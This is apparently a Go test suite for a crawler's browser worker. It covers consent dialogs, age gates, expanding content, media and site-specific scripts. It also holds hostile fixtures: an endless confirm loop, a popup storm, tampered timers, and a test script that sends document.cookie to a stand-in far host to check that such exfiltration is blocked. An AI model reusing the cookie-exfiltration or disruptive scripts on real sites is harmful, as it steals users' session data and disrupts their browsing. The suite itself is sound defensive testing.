package capture

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"crawlfleet.dev/crawlfleet/test/sites/wire"
	"crawlfleet.dev/crawlfleet/workers/browser"
)

// did checks that an action was logged whose detail contains what is wanted, by its name.
func did(name, detail string) func(*testing.T, *result) {
	return func(t *testing.T, r *result) {
		t.Helper()
		if !slices.ContainsFunc(r.page.Actions, func(a browser.Action) bool { return a.Name == name && strings.Contains(a.Detail, detail) }) {
			t.Errorf("there is no action %s: %s", name, detail)
		}
	}
}

// undone checks that nothing was logged by a name.
func undone(name string) func(*testing.T, *result) {
	return func(t *testing.T, r *result) {
		t.Helper()
		if slices.ContainsFunc(r.page.Actions, func(a browser.Action) bool { return a.Name == name }) {
			t.Errorf("there is an action %s", name)
		}
	}
}

func both(checks ...func(*testing.T, *result)) func(*testing.T, *result) {
	return func(t *testing.T, r *result) {
		t.Helper()
		for _, c := range checks {
			c(t, r)
		}
	}
}

// dialog is a page with a dialog about cookies. What is clicked says so to the site.
func dialog(buttons string) handler {
	return html(`<p>The page</p><div id=b style="position:fixed;bottom:0;left:0;right:0;height:100px"><p>We use cookies.</p>` + buttons + `</div><script>
		for (const e of b.querySelectorAll('button')) e.onclick = async () => { const n = document.createElement('p'); n.textContent = await (await fetch(e.id)).text(); b.replaceWith(n) }</script>`)
}

const ownScript = `async () => { p.textContent = typeof token + ' ' + await (await fetch('api?own')).text(); return { asked: 1 } }`

// behaviors is the part of group K that is about what is done to pages.
func behaviors() []testCase {
	said := func(_ *site, x *wire.Exchange) {
		x.Answer("200 OK", mimeText, "told "+x.Target[strings.LastIndex(x.Target, "/")+1:])
	}
	items := func(last int) handler {
		return func(_ *site, x *wire.Exchange) {
			var n int
			_, _ = fmt.Sscanf(x.Target[strings.LastIndex(x.Target, "/")+1:], "items?%d", &n) // it is 0 otherwise
			if n > last {
				x.Answer("200 OK", mimeText, "")
				return
			}
			x.Answer("200 OK", mimeText, fmt.Sprintf("item-%d-a item-%d-b", n, n))
		}
	}
	list := func(label string) handler {
		return html(`<ul id=l></ul><button onclick="more()">` + label + `</button><script>let n = 0; async function more() { const t = await (await fetch('items?' + ++n)).text();
			for (const w of t.split(' ')) if (w) { const li = document.createElement('li'); li.textContent = w; l.append(li) } } more()</script>`)
	}
	return []testCase{
		{
			name:  "K a dialog about consent that can be rejected",
			text:  "The page",
			serve: routes{"": dialog(`<button id=accept>Alle akzeptieren</button><button id=close aria-label=Schließen>×</button><button id=reject>Alle ablehnen</button>`), "accept": said, "close": said, "reject": said},
			lines: "GET www: Document 200 record\nGET www:reject Fetch 200 record",
			check: both(textIs("told reject"), did("consent", "rejected")),
		},
		{
			name:  "K a dialog about consent that can be closed",
			text:  "The page",
			serve: routes{"": dialog(`<button id=accept>Accepter</button><button id=close aria-label=Fermer>×</button>`), "accept": said, "close": said},
			lines: "GET www: Document 200 record\nGET www:close Fetch 200 record",
			check: both(textIs("told close"), did("consent", "closed")),
		},
		{
			name:  "K a dialog about consent that can only be accepted",
			text:  "The page",
			serve: routes{"": dialog(`<button id=accept>Aceptar todo</button><button id=settings>Configuración</button>`), "accept": said, "settings": said},
			lines: "GET www: Document 200 record",
			check: both(textIs("The page"), did("consent", "left open")),
			note:  "The dialog stays, also in the picture; that is logged.",
		},
		{
			name: "K an age gate",
			text: "18 Jahre",
			serve: routes{"": html(`<div id=g style="position:fixed;inset:0;background:#fff"><h1>Bist du 18 Jahre oder älter?</h1><button onclick="enter()">Ja</button><button onclick="location.href='{far}/'">Nein</button></div>
				<script>const enter = () => fetch('inside')</script>`), "inside": said},
			lines:  "GET www: Document 200 record",
			limits: []string{"AgeGate"},
			check:  both(textIs("18 Jahre"), undone("consent"), undone("expand")),
			note:   "It is not passed; that is flagged.",
		},
		{
			name:  "K a button for more in another language",
			text:  "item-1-a",
			serve: routes{"": list("Показать ещё"), "items": items(3)},
			lines: "GET www: Document 200 record" + numbered(1, 4, "\nGET www:items?%d Fetch 200 record"),
			check: both(textIs("item-3-b"), did("expand", "buttons for more")),
		},
		{
			name: "K folds",
			serve: routes{"pixel": file(mimeGIF, pixel), "": html(`<details><summary>Frage</summary><img loading=lazy src=pixel?fold> in the fold</details><button aria-expanded=false aria-controls=c onclick="c.hidden = false">Więcej informacji</button>
				<div id=c hidden><img loading=lazy src=pixel?toggle>behind the toggle</div>`)},
			lines: `GET www: Document 200 record
				GET www:pixel?fold Image 200 record
				GET www:pixel?toggle Image 200 record`,
			check: both(textIs("in the fold"), textIs("behind the toggle"), did("expand", "1 folds opened, 1 toggles")),
			note:  "In the replay the folds are closed, as the page sends them.",
		},
		{
			name: "K buttons that lead away",
			serve: routes{"gone": html("left"), "": html(`<p>stays</p><button onclick="location.href='gone'">Load more</button><button onclick="setTimeout(() => location.assign('gone'), 100)">Show more</button>
				<a href=gone>See more</a><form action=gone><button>View more</button></form>`)},
			lines: "GET www: Document 200 record\nGET www:gone Document not captured: blocked: NavigationBlocked\n?GET www:gone Document not captured: blocked: NavigationBlocked",
			check: both(textIs("stays"), did("refused", "a document was not asked for")),
			text:  "stays",
		},
		{
			name:  "K a player that loads nothing by itself",
			text:  "player",
			serve: routes{"tone.wav": ranges("audio/wav", wav()), "": html(`<p>player</p><audio controls preload=none src=tone.wav></audio>`)},
			lines: "GET www: Document 200 record\nGET www:tone.wav Media 206 record\n?GET www:tone.wav Media 206 record",
			check: did("media", "audio 1 of 1 played: 1.0 of 1.0 seconds fetched"),
		},
		{
			name: "K a list that keeps only what is in view",
			text: "row 0",
			serve: routes{"pixel": file(mimeGIF, pixel), "": html(`<div id=l style="height:6000px;position:relative"></div><script>const draw = () => { l.textContent = ''; const from = Math.floor(scrollY / 600);
				for (let i = from; i < Math.min(from + 3, 10); i++) { const d = document.createElement('div'); d.style = 'position:absolute;height:600px;top:' + i * 600 + 'px'; d.innerHTML = 'row ' + i + '<img src="pixel?' + i + '">'; l.append(d) } }; onscroll = draw; draw()</script>`)},
			lines: "GET www: Document 200 record" + numbered(0, 9, "\nGET www:pixel?%d Image 200 record"),
			check: textIs("row "),
			note:  "Each row's requests are recorded. Text and DOM hold the rows in view, as the page does.",
		},
		{
			name: "K a clock that is tampered with",
			text: "Load more",
			serve: routes{"items": items(2), "": html(`<ul id=l></ul><button onclick="more()">Load more</button><details><summary>x</summary>in the fold</details><script>
				Date.now = () => 0; performance.now = () => 0; Date = function () { return { getTime: () => 0 } }; window.setTimeout = () => 0; window.requestAnimationFrame = () => 0; window.queueMicrotask = () => {};
				Element.prototype.click = HTMLElement.prototype.click = HTMLMediaElement.prototype.play = () => { throw new Error('trapped') }; Promise.prototype.then = ((then) => function (a, b) { return then.call(this, a, b) })(Promise.prototype.then);
				let n = 0; async function more() { const t = await (await fetch('items?' + ++n)).text(); for (const w of t.split(' ')) if (w) { const li = document.createElement('li'); li.textContent = w; l.append(li) } }</script>`)},
			lines: "GET www: Document 200 record" + numbered(1, 3, "\nGET www:items?%d Fetch 200 record"),
			check: both(textIs("item-2-b"), textIs("in the fold")),
		},
		{
			name:   "K questions without end",
			serve:  routes{"": html(`<p>here</p><script>while (!confirm('Sure?'));</script>`)},
			lines:  "GET www: Document 200 record",
			limits: []string{"Dialogs"},
			text:   "here",
		},
		{
			name:  "K a storm of windows",
			serve: routes{"": html(`<p>here</p><script>for (let i = 0; i < 300; i++) window.open('popup?' + i)</script>`)},
			lines: "GET www: Document 200 record" + windows(strings.Fields(each(300, " popup?%d"))...),
			check: both(textIs("here"), did("window.open", "not opened")),
			text:  "here",
			note:  "No window is opened.",
		},
		{
			name: "K print style sheets and popovers",
			text: "in a popover",
			serve: routes{"screen.css": file(mimeCSS, "p { color: green }"), "print.css": file(mimeCSS, "p { color: red }"), "": html(`<link rel=stylesheet href=screen.css media=screen><link rel=stylesheet href=print.css media=print>
				<div popover=manual id=d>in a popover</div><dialog id=m>in a modal</dialog><script>d.showPopover(); m.showModal(); print(); onbeforeunload = e => { e.preventDefault(); return 'stay' }</script>`)},
			lines: `GET www: Document 200 record
				GET www:screen.css Stylesheet 200 record
				GET www:print.css Stylesheet 200 record`,
			check: both(textIs("in a popover"), textIs("in a modal")),
		},
		{
			name:  "K a script for the site",
			text:  "before",
			serve: routes{"api": said, "": html(`<p id=p>before</p><script>var token = 1</script>`)},
			lines: "GET www: Document 200 record\nGET www:api?own Fetch 200 record",
			visit: func(v *browser.Visit) {
				v.Scripts = []browser.Script{{Name: "own.js", Hosts: []string{"*.fleet.test"}, Source: ownScript}}
			},
			check: both(textIs("undefined told api?own"), did("script", "own.js was run: asked 1"), func(t *testing.T, r *result) {
				script := browser.Script{Source: ownScript}
				for _, rec := range r.records {
					if !strings.HasPrefix(rec.TargetURI, "urn:pageinfo:") {
						continue
					}
					for _, want := range []string{`"behaviors":["consent","scroll","expand","media","script"]`, `"scripts":[{"name":"own.js","sha256":"` + script.SHA256() + `","outcome":"done"}]`} {
						if !strings.Contains(string(rec.text), want) {
							t.Errorf("the page's record lacks %s: %s", want, rec.text)
						}
					}
				}
			}),
		},
	}
}

// hostileScripts is the part of group P that is about scripts of the order.
func hostileScripts() []testCase {
	return []testCase{
		{
			name:  "P a script for the site that carries things elsewhere",
			text:  "before",
			serve: routes{"take": file(mimeText, "taken"), "": html(`<p id=p data-to="{far}/p/a-script-for-the-site-that-carries-things-elsewhere/take">before</p><script>document.cookie = 'secret=1'</script>`)},
			lines: `GET www: Document 200 record
				GET far:take?secret=1 Image not captured: there was no answer: OutOfReach
				GET far:take?secret=1 Fetch not captured: there was no answer: OutOfReach`,
			visit: func(v *browser.Visit) {
				v.Scripts = []browser.Script{{Name: "own.js", Hosts: []string{"*.fleet.test"}, Source: `async () => { const to = p.dataset.to + '?' + document.cookie; new Image().src = to; await fetch(to, { mode: 'no-cors' }).catch(() => {}); p.textContent = 'tried' }`}}
			},
			check: textIs("tried"),
			note:  "After a script of the order was begun, only sites are reached that the page had reached.",
		},
	}
}

// numbered writes a line for each number from first to last.
func numbered(first, last int, format string) string {
	var b strings.Builder
	for n := first; n <= last; n++ {
		fmt.Fprintf(&b, format, n)
	}
	return b.String()
}
